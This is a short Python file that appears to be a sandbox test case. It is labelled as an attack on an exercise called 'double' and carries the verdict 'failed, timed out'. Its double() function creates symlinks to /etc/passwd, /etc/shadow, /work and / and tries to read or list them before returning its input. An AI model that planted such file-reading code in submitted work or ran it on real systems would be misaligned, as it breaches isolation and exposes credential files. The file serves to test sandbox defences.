# attack: leave links behind to files of others
# exercise: double
# verdict: failed, timed out
import os


def double(x):
    for target in ("/etc/passwd", "/etc/shadow", "/work", "/"):
        name = "link" + target.replace("/", "-")
        if not os.path.lexists(name):
            os.symlink(target, name)
        try:
            print("seen", os.listdir(name) if os.path.isdir(name) else open(name).read(40))
        except OSError as error:
            print(error.strerror)
    return x
